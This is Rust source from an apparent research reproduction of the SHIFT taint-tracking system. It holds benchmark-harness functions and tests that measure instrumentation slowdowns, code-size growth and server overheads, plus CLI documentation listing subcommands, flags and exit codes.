                ("disarmed_host_ns", Json::U64(trace.disarmed_host_ns)),
                ("armed_host_ns", Json::U64(trace.armed_host_ns)),
                ("overhead_frac", Json::F64(trace.overhead_frac)),
                ("trace_events", Json::U64(trace.trace_events)),
                ("trace_samples", Json::U64(trace.trace_samples)),
                ("modelled_identical", Json::Bool(trace.modelled_identical)),
            ]),
        ),
        (
            "host_ns",
            Json::obj(vec![
                ("fig7", Json::U64(fig7_ns)),
                ("fig8", Json::U64(fig8_ns)),
                ("fig6_apache", Json::U64(fig6_ns)),
                ("serve", Json::U64(serve_ns)),
                ("trace_overhead", Json::U64(trace_ns)),
                ("spawn_latency", Json::U64(spawn_ns)),
                ("conn_sweep", Json::U64(conn_sweep_ns)),
                ("open_loop", Json::U64(open_loop_ns)),
                ("total", Json::U64(t_total.elapsed().as_nanos() as u64)),
            ]),
        ),
    ])
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn geomean_basics() {
        assert!((geomean(&[2.0, 8.0]) - 4.0).abs() < 1e-9);
        assert!((geomean(&[3.0]) - 3.0).abs() < 1e-9);
    }

    #[test]
    fn fig7_shape_holds_at_test_scale() {
        let rows = fig7_spec_slowdowns(Scale::Test);
        assert_eq!(rows.len(), 8);
        for r in &rows {
            assert!(r.byte_unsafe > 1.0, "{}: no overhead?", r.name);
            // Byte-level ≥ word-level on average; safe ≤ unsafe.
            assert!(r.byte_safe <= r.byte_unsafe + 1e-9, "{}", r.name);
            assert!(r.word_safe <= r.word_unsafe + 1e-9, "{}", r.name);
        }
        let byte: Vec<f64> = rows.iter().map(|r| r.byte_unsafe).collect();
        let word: Vec<f64> = rows.iter().map(|r| r.word_unsafe).collect();
        assert!(
            geomean(&byte) > geomean(&word),
            "byte tracking must cost more on average: {:.2} vs {:.2}",
            geomean(&byte),
            geomean(&word)
        );
    }

    #[test]
    fn serve_sweep_scales_and_stays_deterministic() {
        // One uniform stream plus the mixed stream, byte + word, widths
        // 1/2/8: rows come out grouped with widths in order, throughput is
        // monotone non-degrading in width, and the modelled serve totals
        // never depend on width.
        let points = serve_sweep(&[1, 2, 8], &[4 << 10], 8, 4);
        assert_eq!(points.len(), 2 * 2 * 3);
        for group in points.chunks(3) {
            let one = &group[0];
            assert_eq!(one.workers, 1);
            assert!(one.host_ns > 0);
            assert_eq!(one.served, one.requests, "nothing dropped at width 1: {}", one.group());
            for p in group {
                assert_eq!(p.group(), one.group());
                assert_eq!(p.served, one.served, "{}: served depends on width", p.group());
                assert_eq!(p.p99_latency, one.p99_latency, "{}", p.group());
            }
            for pair in group.windows(2) {
                assert!(
                    pair[1].requests_per_sec >= pair[0].requests_per_sec - 1e-9,
                    "{}: throughput degraded {} -> {} workers",
                    one.group(),
                    pair[0].workers,
                    pair[1].workers
                );
            }
            let eight = &group[2];
            assert!(
                eight.requests_per_sec >= 3.0 * one.requests_per_sec,
                "{}: 8-wide fleet only {:.2}x over 1-wide",
                one.group(),
                eight.requests_per_sec / one.requests_per_sec
            );
        }
    }

    #[test]
    fn sweep_workers_override_caps_the_pool() {
        // The override changes only host scheduling; parallel_map results
        // stay ordered and complete.
        set_sweep_workers(1);
        let serial: Vec<u64> = parallel_map(&[1u64, 2, 3, 4], |&x| x * x);
        set_sweep_workers(3);
        let pooled: Vec<u64> = parallel_map(&[1u64, 2, 3, 4], |&x| x * x);
        set_sweep_workers(0);
        assert_eq!(serial, vec![1, 4, 9, 16]);
        assert_eq!(serial, pooled);
        assert_eq!(sweep_workers(100).max(1), sweep_workers(100));
        set_sweep_workers(5);
        assert_eq!(sweep_workers(100), 5);
        assert_eq!(sweep_workers(2), 2);
        set_sweep_workers(0);
    }

    #[test]
    fn spawn_latency_is_o1_in_image_size() {
        let s = spawn_latency();
        assert_eq!(s.large_pages, 4 * s.small_pages, "images must differ 4x in size");
        assert_eq!(s.spawn_owned_pages, 0, "a fresh spawn must own no private pages");
        assert!(
            s.o1_ratio < 1.5,
            "spawn cost scaled with image size: {} ns (small) vs {} ns (large), ratio {:.2}",
            s.small_spawn_ns,
            s.large_spawn_ns,
            s.o1_ratio
        );
    }

    #[test]
    fn connection_sweep_scales_to_fleet_counts() {
        // Test-scale miniature of the {8, 256, 1024} sweep in the summary.
        let points = connection_sweep(&[4, 16, 64], 4, 1);
        assert_eq!(points.len(), 3);
        for p in &points {
            assert_eq!(p.served, p.requests, "mixed stream drops nothing: {p:?}");
            assert!(p.owned_pages_total > 0, "serving must dirty private pages");
            assert!(p.private_bytes_per_instance > 0.0);
            assert!(p.peak_owned_pages * (p.connections) >= p.owned_pages_total);
        }
        for pair in points.windows(2) {
            assert!(
                pair[1].requests_per_sec >= pair[0].requests_per_sec - 1e-9,
                "throughput degraded {} -> {} connections",
                pair[0].connections,
                pair[1].connections
            );
            // Per-instance private bytes stay flat as the fleet grows: the
            // whole point of sharing the pristine image.
            assert!(
                pair[1].private_bytes_per_instance
                    <= pair[0].private_bytes_per_instance * 1.5 + 4096.0,
                "private bytes/instance grew with the fleet: {points:?}"
            );
        }
    }

    #[test]
    fn open_loop_sweep_crosses_saturation() {
        // Test-scale miniature of the summary's open-loop rate sweep: the
        // low rate must clear the tight admission controller, the overload
        // must trip it.
        let rows = open_loop_sweep(48, &[1_000.0, 1_000_000.0], 8, 1, 7);
        assert_eq!(rows.len(), 2);
        let (low, high) = (&rows[0], &rows[1]);
        assert_eq!(low.shed, 0, "below saturation nothing sheds: {low:?}");
        assert!(!low.saturated);
        assert!(low.completed == low.connections);
        assert!(
            low.sojourn_p50 <= low.sojourn_p99 && low.sojourn_p99 <= low.sojourn_p999,
            "{low:?}"
        );
        assert!(low.sojourn_p999 > 0, "completed connections must have sojourn: {low:?}");
        assert!(high.shed > 0, "overload must shed: {high:?}");
        assert!(high.saturated);
        assert_eq!(high.completed + high.shed, high.connections);
        // Residency — not the offered count — bounds peak guest memory.
        assert!(high.peak_resident <= 8, "{high:?}");
        assert!(high.peak_owned_pages > 0);
    }

    #[test]
    fn trace_overhead_is_zero_perturbation_and_cheap() {
        let t = trace_overhead(4, 3, 100_000);
        assert!(t.modelled_identical, "arming the recorder perturbed the modelled outcome");
        assert!(t.trace_events > 0, "armed run recorded no events");
        assert!(t.trace_samples > 0, "armed run recorded no samples");
        assert!(
            t.overhead_frac < 0.10,
            "armed host overhead {:.1}% exceeds the 10% budget \
             ({} ns armed vs {} ns disarmed)",
            t.overhead_frac * 100.0,
            t.armed_host_ns,
            t.disarmed_host_ns
        );
    }

    #[test]
    fn table3_shape_holds() {
        let rows = table3_codesize();
        assert_eq!(rows.len(), 9);
        let glibc = &rows[0];
        assert_eq!(glibc.name, "glibc");
        for r in &rows {
            assert!(r.word > r.orig, "{}: word must grow", r.name);
            assert!(r.byte >= r.word, "{}: byte ≥ word expected", r.name);
        }
        // Expansion magnitudes stay in the paper's ballpark (tens to a few
        // hundred percent). Note our guest libc is pure byte-loop string
        // code, so unlike the paper's real glibc (+45%, diluted by masses
        // of non-memory code) it expands about as much as the benchmarks —
        // EXPERIMENTS.md discusses the divergence.
        for r in &rows {
            assert!(
                r.byte_overhead() > 30.0 && r.byte_overhead() < 400.0,
                "{}: implausible expansion {:.0}%",
                r.name,
                r.byte_overhead()
            );
        }
    }
}
