//! # shift-bench — the experiment harnesses
//!
//! One function per table/figure of the paper's evaluation (§5–§6); the
//! `benches/` targets are thin `main`s that call these and print the rows.
//! Everything returns plain data structures so the integration test-suite
//! can assert on experiment *shapes* (who wins, rough factors, orderings)
//! without parsing text.

#![forbid(unsafe_code)]
#![warn(missing_docs)]

use shift_core::{Granularity, Mode, ShiftOptions};
use shift_isa::Provenance;
use shift_workloads::{all_benches, run_spec, Scale, SpecBench};

/// Geometric mean of a non-empty slice.
pub fn geomean(xs: &[f64]) -> f64 {
    (xs.iter().map(|x| x.ln()).sum::<f64>() / xs.len() as f64).exp()
}

/// A Figure-7 row: slowdowns relative to the uninstrumented baseline.
#[derive(Clone, Debug)]
pub struct SpecRow {
    /// Benchmark name.
    pub name: &'static str,
    /// Byte-level tracking, tainted input ("byte-unsafe").
    pub byte_unsafe: f64,
    /// Byte-level tracking, untainted input ("byte-safe").
    pub byte_safe: f64,
    /// Word-level, tainted.
    pub word_unsafe: f64,
    /// Word-level, untainted.
    pub word_safe: f64,
}

/// Figure 7: SPEC slowdowns at both granularities and taint conditions.
pub fn fig7_spec_slowdowns(scale: Scale) -> Vec<SpecRow> {
    run_suite(scale, |bench, baseline| {
        let slowdown = |mode: Mode, tainted: bool| {
            let run = run_spec(bench, mode, scale, tainted);
            run.stats.cycles as f64 / baseline as f64
        };
        SpecRow {
            name: bench.name,
            byte_unsafe: slowdown(Mode::Shift(ShiftOptions::baseline(Granularity::Byte)), true),
            byte_safe: slowdown(Mode::Shift(ShiftOptions::baseline(Granularity::Byte)), false),
            word_unsafe: slowdown(Mode::Shift(ShiftOptions::baseline(Granularity::Word)), true),
            word_safe: slowdown(Mode::Shift(ShiftOptions::baseline(Granularity::Word)), false),
        }
    })
}

/// A Figure-8 row: slowdowns under the architectural-enhancement modes
/// (tainted input throughout, like the paper's byte/word-unsafe baselines).
#[derive(Clone, Debug)]
pub struct EnhanceRow {
    /// Benchmark name.
    pub name: &'static str,
    /// Stock Itanium, byte level.
    pub byte_unsafe: f64,
    /// `tset`/`tclr` added, byte level.
    pub byte_set_clr: f64,
    /// Both enhancements, byte level.
    pub byte_both: f64,
    /// Stock Itanium, word level.
    pub word_unsafe: f64,
    /// `tset`/`tclr` added, word level.
    pub word_set_clr: f64,
    /// Both enhancements, word level.
    pub word_both: f64,
}

impl EnhanceRow {
    /// The paper's "reduction of performance slowdown": old − new, in
    /// slowdown units (their §6.3 definition).
    pub fn reduction_byte_both(&self) -> f64 {
        self.byte_unsafe - self.byte_both
    }
    /// See [`EnhanceRow::reduction_byte_both`].
    pub fn reduction_word_both(&self) -> f64 {
        self.word_unsafe - self.word_both
    }
}

/// Figure 8: the effect of the proposed instructions.
pub fn fig8_enhancements(scale: Scale) -> Vec<EnhanceRow> {
    run_suite(scale, |bench, baseline| {
        let slowdown = |opts: ShiftOptions| {
            let run = run_spec(bench, Mode::Shift(opts), scale, true);
            run.stats.cycles as f64 / baseline as f64
        };
        let set_clr =
            |g| ShiftOptions { set_clr: true, nat_cmp: false, ..ShiftOptions::baseline(g) };
        EnhanceRow {
            name: bench.name,
            byte_unsafe: slowdown(ShiftOptions::baseline(Granularity::Byte)),
            byte_set_clr: slowdown(set_clr(Granularity::Byte)),
            byte_both: slowdown(ShiftOptions::enhanced(Granularity::Byte)),
            word_unsafe: slowdown(ShiftOptions::baseline(Granularity::Word)),
            word_set_clr: slowdown(set_clr(Granularity::Word)),
            word_both: slowdown(ShiftOptions::enhanced(Granularity::Word)),
        }
    })
}

/// A Figure-9 row: the instrumentation-cycle breakdown, as fractions of the
/// *baseline* execution time (so the bars stack like the paper's).
#[derive(Clone, Debug)]
pub struct BreakdownRow {
    /// Benchmark name.
    pub name: &'static str,
    /// Granularity of this row.
    pub granularity: Granularity,
    /// Load-side tag-address computation.
    pub ld_compute: f64,
    /// Load-side bitmap accesses.
    pub ld_memory: f64,
    /// Store-side tag-address computation.
    pub st_compute: f64,
    /// Store-side bitmap accesses.
    pub st_memory: f64,
    /// Compare relaxation / laundering.
    pub relax: f64,
    /// Taint-source material.
    pub taint_src: f64,
}

/// Figure 9: where the instrumented cycles go, per benchmark and
/// granularity (tainted input).
pub fn fig9_breakdown(scale: Scale) -> Vec<BreakdownRow> {
    let mut out = Vec::new();
    for gran in [Granularity::Byte, Granularity::Word] {
        let rows = run_suite(scale, |bench, baseline| {
            let run = run_spec(bench, Mode::Shift(ShiftOptions::baseline(gran)), scale, true);
            let frac = |p: Provenance| run.stats.cycles_for(p) as f64 / baseline as f64;
            BreakdownRow {
                name: bench.name,
                granularity: gran,
                ld_compute: frac(Provenance::LdTagCompute),
                ld_memory: frac(Provenance::LdTagMemory),
                st_compute: frac(Provenance::StTagCompute),
                st_memory: frac(Provenance::StTagMemory),
                relax: frac(Provenance::Relax),
                taint_src: frac(Provenance::TaintSource),
            }
        });
        out.extend(rows);
    }
    out
}

/// Runs `f` for every benchmark (in parallel), handing it the baseline
/// (uninstrumented, tainted-config) cycle count.
fn run_suite<T: Send>(scale: Scale, f: impl Fn(&SpecBench, u64) -> T + Sync) -> Vec<T> {
    let benches = all_benches();
    let mut out: Vec<Option<T>> = (0..benches.len()).map(|_| None).collect();
    std::thread::scope(|s| {
        for (slot, bench) in out.iter_mut().zip(&benches) {
            let f = &f;
            s.spawn(move || {
                let baseline = run_spec(bench, Mode::Uninstrumented, scale, true).stats.cycles;
                *slot = Some(f(bench, baseline));
            });
        }
    });
    out.into_iter().map(|t| t.expect("worker filled its slot")).collect()
}

/// A Figure-6 cell: server overhead at one file size and granularity.
#[derive(Clone, Debug)]
pub struct ApacheRow {
    /// Requested file size in bytes.
    pub file_size: usize,
    /// Latency overhead of byte-level tracking (instrumented / baseline).
    pub byte_latency: f64,
    /// Throughput ratio (baseline / instrumented — >1 means slower).
    pub byte_throughput: f64,
    /// Latency overhead of word-level tracking.
    pub word_latency: f64,
    /// Throughput ratio, word level.
    pub word_throughput: f64,
}

/// Figure 6: Apache overheads over the paper's file-size sweep.
///
/// `requests` scales the run length (the paper used 1,000 requests with
/// `ab`; the simulator preserves the CPU-to-I/O structure at smaller
/// counts).
pub fn fig6_apache(file_sizes: &[usize], requests: usize) -> Vec<ApacheRow> {
    use shift_workloads::apache::run_apache;
    file_sizes
        .iter()
        .map(|&size| {
            let base = run_apache(Mode::Uninstrumented, size, requests);
            let byte =
                run_apache(Mode::Shift(ShiftOptions::baseline(Granularity::Byte)), size, requests);
            let word =
                run_apache(Mode::Shift(ShiftOptions::baseline(Granularity::Word)), size, requests);
            ApacheRow {
                file_size: size,
                byte_latency: byte.latency() / base.latency(),
                byte_throughput: base.throughput() / byte.throughput(),
                word_latency: word.latency() / base.latency(),
                word_throughput: base.throughput() / word.throughput(),
            }
        })
        .collect()
}

/// A Table-3 row: static code size under each compilation mode.
#[derive(Clone, Debug)]
pub struct CodeSizeRow {
    /// "glibc" or a benchmark name.
    pub name: String,
    /// Uninstrumented size in instructions.
    pub orig: usize,
    /// Word-level instrumented size.
    pub word: usize,
    /// Byte-level instrumented size.
    pub byte: usize,
}

impl CodeSizeRow {
    /// Word-level expansion, percent.
    pub fn word_overhead(&self) -> f64 {
        (self.word as f64 / self.orig as f64 - 1.0) * 100.0
    }
    /// Byte-level expansion, percent.
    pub fn byte_overhead(&self) -> f64 {
        (self.byte as f64 / self.orig as f64 - 1.0) * 100.0
    }
}

/// Table 3: code-size expansion for the guest libc and every benchmark.
pub fn table3_codesize() -> Vec<CodeSizeRow> {
    use shift_compiler::{CompiledProgram, Compiler};
    use shift_core::libc_program;

    let compile = |program: &shift_ir::Program, mode: Mode| -> CompiledProgram {
        let mut linked = program.clone();
        linked.link(libc_program());
        Compiler::new(mode).compile(&linked).expect("benchmarks compile")
    };
    let libc_size = |c: &CompiledProgram| -> usize {
        shift_core::LIBC_FUNCS.iter().filter_map(|n| c.func_size(n)).sum()
    };
    let app_size = |c: &CompiledProgram| -> usize {
        c.func_ranges
            .iter()
            .filter(|(n, _)| {
                !shift_core::LIBC_FUNCS.contains(&n.as_str()) && n.as_str() != "_start"
            })
            .map(|(_, (s, e))| e - s)
            .sum()
    };

    let mut rows = Vec::new();
    // glibc row: measured inside the first benchmark's image (the libc is
    // identical across programs).
    let probe = (all_benches()[0].build)();
    let orig = compile(&probe, Mode::Uninstrumented);
    let word = compile(&probe, Mode::Shift(ShiftOptions::baseline(Granularity::Word)));
    let byte = compile(&probe, Mode::Shift(ShiftOptions::baseline(Granularity::Byte)));
    rows.push(CodeSizeRow {
        name: "glibc".into(),
        orig: libc_size(&orig),
        word: libc_size(&word),
        byte: libc_size(&byte),
    });
    for bench in all_benches() {
        let program = (bench.build)();
        let orig = compile(&program, Mode::Uninstrumented);
        let word = compile(&program, Mode::Shift(ShiftOptions::baseline(Granularity::Word)));
        let byte = compile(&program, Mode::Shift(ShiftOptions::baseline(Granularity::Byte)));
        rows.push(CodeSizeRow {
            name: bench.name.into(),
            orig: app_size(&orig),
            word: app_size(&word),
            byte: app_size(&byte),
        });
    }
    rows
}

/// An ablation row over SHIFT's implementation choices (byte-level
/// slowdowns, tainted input).
#[derive(Clone, Debug)]
pub struct AblationRow {
    /// Benchmark name.
    pub name: &'static str,
    /// The shipped configuration: kept NaT source, clean-register analysis.
    pub default: f64,
    /// Clean-register analysis disabled (every compare relaxed, every store
    /// treated as possibly tainted).
    pub no_analysis: f64,
    /// NaT source regenerated at every function entry — the strategy the
    /// paper rejects in §4.4 ("degrades the performance by a factor of 3X,
    /// compared to generating a NaT-bit and keeping it").
    pub natgen_per_function: f64,
    /// NaT source regenerated before every use (worst case).
    pub natgen_per_use: f64,
}

/// A NaT-vs-shadow row: SHIFT's hardware-assisted tracking against the
/// software-only shadow-register implementation of the same semantics.
#[derive(Clone, Debug)]
pub struct NatVsShadowRow {
    /// Benchmark name.
    pub name: &'static str,
    /// SHIFT, byte level (NaT bits track register taint for free).
    pub shift_byte: f64,
    /// Software-only, byte level (explicit propagation around every
    /// instruction, LIFT-style).
    pub shadow_byte: f64,
    /// SHIFT, word level.
    pub shift_word: f64,
    /// Software-only, word level.
    pub shadow_word: f64,
}

/// The headline ablation: what is the NaT reuse actually worth? Runs every
/// kernel under SHIFT and under the software-only shadow-register mode.
pub fn ablation_nat_vs_shadow(scale: Scale) -> Vec<NatVsShadowRow> {
    run_suite(scale, |bench, baseline| {
        let slowdown = |mode: Mode| {
            let run = run_spec(bench, mode, scale, true);
            run.stats.cycles as f64 / baseline as f64
        };
        NatVsShadowRow {
            name: bench.name,
            shift_byte: slowdown(Mode::Shift(ShiftOptions::baseline(Granularity::Byte))),
            shadow_byte: slowdown(Mode::Shadow(Granularity::Byte)),
            shift_word: slowdown(Mode::Shift(ShiftOptions::baseline(Granularity::Word))),
            shadow_word: slowdown(Mode::Shadow(Granularity::Word)),
        }
    })
}

/// Ablation: the kept-NaT-source decision (§4.4) and the clean-register
/// analysis, quantified.
pub fn ablation_design_choices(scale: Scale) -> Vec<AblationRow> {
    use shift_compiler::NatGen;
    run_suite(scale, |bench, baseline| {
        let slowdown = |opts: ShiftOptions| {
            let run = run_spec(bench, Mode::Shift(opts), scale, true);
            run.stats.cycles as f64 / baseline as f64
        };
        let base = ShiftOptions::baseline(Granularity::Byte);
        AblationRow {
            name: bench.name,
            default: slowdown(base),
            no_analysis: slowdown(ShiftOptions { relax_analysis: false, ..base }),
            natgen_per_function: slowdown(ShiftOptions { nat_gen: NatGen::PerFunction, ..base }),
            natgen_per_use: slowdown(ShiftOptions { nat_gen: NatGen::PerUse, ..base }),
        }
    })
}

/// A machine-readable summary of the headline experiments — Figure-7 SPEC
/// slowdown geomeans and Figure-6 Apache overhead geomeans — for CI
/// regression tracking (`shift bench --json` writes it to
/// `BENCH_shift.json`).
pub fn bench_summary(scale: Scale, file_sizes: &[usize], requests: usize) -> shift_obs::Json {
    use shift_obs::Json;
    let spec = fig7_spec_slowdowns(scale);
    let gm = |sel: &dyn Fn(&SpecRow) -> f64| geomean(&spec.iter().map(sel).collect::<Vec<f64>>());
    let apache = fig6_apache(file_sizes, requests);
    let agm =
        |sel: &dyn Fn(&ApacheRow) -> f64| geomean(&apache.iter().map(sel).collect::<Vec<f64>>());
    Json::obj(vec![
        ("schema_version", Json::U64(shift_obs::SCHEMA_VERSION)),
        (
            "scale",
            Json::Str(match scale {
                Scale::Test => "test".to_string(),
                Scale::Reference => "reference".to_string(),
            }),
        ),
        ("spec_benches", Json::U64(spec.len() as u64)),
        (
            "fig7_spec_geomean",
            Json::obj(vec![
                ("byte_unsafe", Json::F64(gm(&|r| r.byte_unsafe))),
                ("byte_safe", Json::F64(gm(&|r| r.byte_safe))),
                ("word_unsafe", Json::F64(gm(&|r| r.word_unsafe))),
                ("word_safe", Json::F64(gm(&|r| r.word_safe))),
            ]),
        ),
        (
            "fig6_apache_geomean",
            Json::obj(vec![
                ("byte_latency", Json::F64(agm(&|r| r.byte_latency))),
                ("byte_throughput", Json::F64(agm(&|r| r.byte_throughput))),
                ("word_latency", Json::F64(agm(&|r| r.word_latency))),
                ("word_throughput", Json::F64(agm(&|r| r.word_throughput))),
            ]),
        ),
    ])
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn geomean_basics() {
        assert!((geomean(&[2.0, 8.0]) - 4.0).abs() < 1e-9);
        assert!((geomean(&[3.0]) - 3.0).abs() < 1e-9);
    }

    #[test]
    fn fig7_shape_holds_at_test_scale() {
        let rows = fig7_spec_slowdowns(Scale::Test);
        assert_eq!(rows.len(), 8);
        for r in &rows {
            assert!(r.byte_unsafe > 1.0, "{}: no overhead?", r.name);
            // Byte-level ≥ word-level on average; safe ≤ unsafe.
            assert!(r.byte_safe <= r.byte_unsafe + 1e-9, "{}", r.name);
            assert!(r.word_safe <= r.word_unsafe + 1e-9, "{}", r.name);
        }
        let byte: Vec<f64> = rows.iter().map(|r| r.byte_unsafe).collect();
        let word: Vec<f64> = rows.iter().map(|r| r.word_unsafe).collect();
        assert!(
            geomean(&byte) > geomean(&word),
            "byte tracking must cost more on average: {:.2} vs {:.2}",
            geomean(&byte),
            geomean(&word)
        );
    }

    #[test]
    fn table3_shape_holds() {
        let rows = table3_codesize();
        assert_eq!(rows.len(), 9);
        let glibc = &rows[0];
        assert_eq!(glibc.name, "glibc");
        for r in &rows {
            assert!(r.word > r.orig, "{}: word must grow", r.name);
            assert!(r.byte >= r.word, "{}: byte ≥ word expected", r.name);
        }
        // Expansion magnitudes stay in the paper's ballpark (tens to a few
        // hundred percent). Note our guest libc is pure byte-loop string
        // code, so unlike the paper's real glibc (+45%, diluted by masses
        // of non-memory code) it expands about as much as the benchmarks —
        // EXPERIMENTS.md discusses the divergence.
        for r in &rows {
            assert!(
                r.byte_overhead() > 30.0 && r.byte_overhead() < 400.0,
                "{}: implausible expansion {:.0}%",
                r.name,
                r.byte_overhead()
            );
        }
    }
}
