//! `shift` — the command-line front end for the SHIFT reproduction.
//!
//! ```text
//! shift attacks [--mode M] [--trace-taint] [--metrics <path>]
//! shift attack <program> [--mode M] [--benign] [--trace] [--trace-depth N]
//!              [--trace-taint] [--metrics <path>] [--profile <path>]
//! shift spec <bench|all> [--mode M] [--reference] [--safe]
//! shift apache <size-kb> <requests> [--mode M]
//! shift serve [--mode M] [--workers N] [--connections N] [--requests N]
//!             [--size-kb N] [--json <path>] [--seed N] [--inject]
//!             [--record <path>] [--trace-out <path>] [--prom-out <path>]
//!             [--sample-cycles N] [--arrivals SPEC] [--accept-cap N]
//!             [--max-resident N] [--quantum N] [--host-workers N]
//! shift trace <file>                   summarize a recorded trace file
//! shift replay <log> [--connection N] [--debug] [--shrink <path>]
//! shift bench [--json] [--reference] [--workers N] [--seed N]
//! shift disasm [--mode M]              show the instrumentation templates
//! shift modes                          list compilation modes
//! shift help                           usage plus the exit-code table
//! ```
//!
//! `serve` runs the fleet engine: the Apache guest is compiled once, then
//! `--connections` connections of `--requests` requests each are served
//! across a `--workers`-wide modelled fleet (default: one instance per host
//! core). Without `--size-kb` the connections carry the mixed
//! production-traffic stream; with it, every request fetches one file of
//! that size. `--workers` on `bench` instead caps the *host* thread pool
//! the experiment sweeps run on (`--workers 1` for fully serial,
//! deterministic-latency CI runs — the modelled numbers are identical
//! either way).
//!
//! Open-loop serving (`--arrivals`, DESIGN.md §16): instead of the
//! closed-loop round-robin fleet, connections *arrive* on a modelled clock
//! drawn from an arrival process — `poisson:RATE`, `bursty:RATE[:BURST]`,
//! or `diurnal:RATE[:AMPLITUDE]` (RATE in connections per modelled
//! second) — and are multiplexed over `--workers` modelled workers by the
//! discrete-event scheduler. Guests park at I/O points, so thousands of
//! in-flight connections share a handful of workers. Admission control is
//! explicit: `--accept-cap` bounds the accept queue (beyond it, arrivals
//! are shed and counted), `--max-resident` caps simultaneously-live
//! guests, `--quantum` sets the round-robin slice in cycles (0 = run each
//! CPU burst to its park point). The report adds sojourn latency
//! (completion − arrival) at p50/p99/p999, saturation throughput, queue
//! depth, and peak resident pages. `--host-workers` sizes the host
//! simulation pool only — every modelled number is bit-identical at any
//! setting.
//!
//! Record/replay: `serve --record <path>` writes a replay log of the run —
//! every connection's request stream, the session options, the injection
//! schedule (`--inject` arms a randomized chaos schedule derived from
//! `--seed`), and the per-connection outcome digests. `shift replay <log>`
//! reconstructs and re-runs every recorded connection (or one, with
//! `--connection N`) and verifies bit-identical digests, cycles, and
//! violations — open-loop logs carry their materialized arrival schedule,
//! and connections recorded as shed are skipped (they never ran);
//! `--debug` opens the postmortem debugger on the connection instead. On a
//! terminal the debugger is an interactive REPL (`step`, `run`, `regs`,
//! `mem`, `taint`, `bt`, `dis`, `report`, `quit`); with stdin closed or
//! piped it runs straight to the recorded stop and prints the postmortem
//! report (registers, NaT bits, tag-bitmap slices, provenance chain at
//! the fault). `--shrink <path>` writes a minimized single-connection
//! reproducer preserving the connection's outcome. One `--seed` integer
//! reproduces every randomized harness — it flows from the CLI through the
//! bench summary and the fault-injection schedules, and defaults to the
//! `SHIFT_SEED` environment variable.
//!
//! Observability flags: `--trace-taint` records taint births, propagations,
//! and sink hits, and prints the provenance chain behind a detection
//! (`net_read msg#0 bytes 4..12 → r9 → store @0x6000f8 → file_open arg`);
//! `--metrics <path>` writes a schema-stable JSON metrics snapshot;
//! `--profile <path>` writes per-guest-function folded stacks; `--trace-depth
//! N` sizes the last-instructions ring shown by `--trace` (default 16).
//!
//! Flight recording (`serve` only, see DESIGN.md §14): `--trace-out <path>`
//! writes the merged fleet timeline as Chrome `trace_event` JSON — load it
//! in Perfetto (<https://ui.perfetto.dev>) or `chrome://tracing`;
//! `--prom-out <path>` writes the merged metrics registry in the Prometheus
//! text exposition format; `--sample-cycles N` snapshots the serving
//! counters every N modelled cycles into the trace file's `timeseries`
//! section. `shift trace <file>` summarizes a written trace: a
//! per-connection span table, the longest spans, and the recovery timeline.
//! Recording is zero-perturbation: the modelled results are bit-identical
//! with and without these flags.
//!
//! Modes: `plain`, `byte` (default), `word`, `byte-enhanced`,
//! `word-enhanced`, `shadow-byte`, `shadow-word`.
//!
//! Process exit codes distinguish how the guest ended, so scripts can tell
//! a detection from a crash from a wedged guest:
//!
//! | code | meaning |
//! |------|---------|
//! | 0    | clean `Halted(0)` exit (or a successful report command) |
//! | 1    | usage error, or a corpus scan found a missed detection |
//! | 2    | guest program failed to compile |
//! | 3    | guest halted with a nonzero status |
//! | 10   | policy violation detected (H1–H5 sink policies) |
//! | 11   | architectural fault (incl. NaT consumption = L1–L3) |
//! | 12   | per-transaction watchdog fuel exhausted |
//! | 13   | whole-run instruction limit reached |
//! | 14   | replay diverged from the recorded outcome (or wrong image) |
//! | 15   | a shrunk reproducer was produced and written |

use std::process::ExitCode as ProcessExit;

use shift_core::{CompileError, Exit, Granularity, Mode, Shift, ShiftOptions};
use shift_workloads::{run_spec, Scale};

/// Every process exit code `shift` can return, in one place.
///
/// The discriminants ARE the process exit codes (the module-level table and
/// the `shift help` output are generated from [`ExitCode::ALL`], so neither
/// can drift from this enum). Codes 4–9 are reserved; scripts can key on
/// the rest unambiguously.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
#[repr(u8)]
enum ExitCode {
    /// Clean `Halted(0)` guest exit, or a successful report command.
    Success = 0,
    /// Usage error, a missed-detection corpus scan, or an unreadable input.
    Usage = 1,
    /// The guest program failed to compile.
    Compile = 2,
    /// The guest halted with a nonzero status.
    GuestStatus = 3,
    /// The run ended in a policy violation (H1–H5 sink policies).
    Violation = 10,
    /// The run ended in an architectural fault (incl. NaT consumption =
    /// L1–L3).
    Fault = 11,
    /// The per-transaction watchdog fuel ran dry.
    Fuel = 12,
    /// The whole-run instruction budget ran out.
    InsnLimit = 13,
    /// A replay did not reproduce the recorded outcome bit-identically (or
    /// the compiled image is not the recorded one).
    ReplayDiverged = 14,
    /// A shrunk reproducer was produced and written (`replay --shrink`).
    Shrunk = 15,
}

impl ExitCode {
    /// Every code, in numeric order — the source of the `shift help` table.
    const ALL: [ExitCode; 10] = [
        ExitCode::Success,
        ExitCode::Usage,
        ExitCode::Compile,
        ExitCode::GuestStatus,
        ExitCode::Violation,
        ExitCode::Fault,
        ExitCode::Fuel,
        ExitCode::InsnLimit,
        ExitCode::ReplayDiverged,
        ExitCode::Shrunk,
    ];

    /// The numeric process exit code.
    fn code(self) -> u8 {
        self as u8
    }

    /// One-line meaning, as shown by `shift help`.
    fn describe(self) -> &'static str {
        match self {
            ExitCode::Success => "clean Halted(0) exit (or a successful report command)",
            ExitCode::Usage => "usage error, or a corpus scan found a missed detection",
            ExitCode::Compile => "guest program failed to compile",
            ExitCode::GuestStatus => "guest halted with a nonzero status",
            ExitCode::Violation => "policy violation detected (H1-H5 sink policies)",
            ExitCode::Fault => "architectural fault (incl. NaT consumption = L1-L3)",
            ExitCode::Fuel => "per-transaction watchdog fuel exhausted",
            ExitCode::InsnLimit => "whole-run instruction limit reached",
            ExitCode::ReplayDiverged => "replay diverged from the recorded outcome",
            ExitCode::Shrunk => "a shrunk reproducer was produced and written",
        }
    }

    /// The exit-code table, rendered for `shift help` (and asserted against
    /// this enum by the CLI tests, so the help text cannot drift).
    fn table() -> String {
        let mut out = String::from("exit codes:\n");
        for c in ExitCode::ALL {
            out.push_str(&format!("  {:>4}  {}\n", c.code(), c.describe()));
        }
        out
    }
}

impl From<ExitCode> for ProcessExit {
    fn from(c: ExitCode) -> ProcessExit {
        ProcessExit::from(c.code())
    }
}

/// Maps a guest [`Exit`] to its [`ExitCode`].
